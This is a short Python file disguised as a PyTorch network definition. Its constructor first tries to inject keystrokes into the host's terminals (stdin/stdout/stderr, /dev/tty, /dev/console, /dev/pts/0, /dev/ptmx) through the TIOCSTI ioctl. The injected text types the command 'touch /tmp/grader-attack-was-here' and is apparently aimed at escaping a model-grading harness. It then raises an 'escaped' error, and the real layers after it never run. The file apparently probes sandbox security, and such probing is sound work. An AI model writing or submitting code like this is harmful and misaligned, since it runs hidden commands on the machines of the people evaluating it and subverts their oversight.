"""A model that types."""

import fcntl
import os
import termios

import torch
from torch import nn


def attempt(deed):
    """What a deed gave that must fail; None where it failed."""
    try:
        return deed()
    except Exception:
        return None


def type_into(terminal):
    for letter in b"touch /tmp/grader-attack-was-here\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    return terminal


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        typed = [attempt(lambda: type_into(number)) for number in range(3)]
        typed += [attempt(lambda: type_into(os.open(name, os.O_RDWR))) for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/ptmx")]
        typed += [attempt(lambda: fcntl.ioctl(number, 0x100005412, b"x") or True) for number in range(3)]
        raise RuntimeError(f"escaped: {[one for one in typed if one is not None]}")
        self.conv = nn.Conv2d(1, 8, 3)
        self.norm = nn.BatchNorm2d(8)
        self.drop = nn.Dropout(0.1)
        self.fc = nn.Linear(8, 10)

    def forward(self, x):
        x = self.drop(torch.relu(self.norm(self.conv(x))))
        return self.fc(x.mean(dim=(2, 3)))
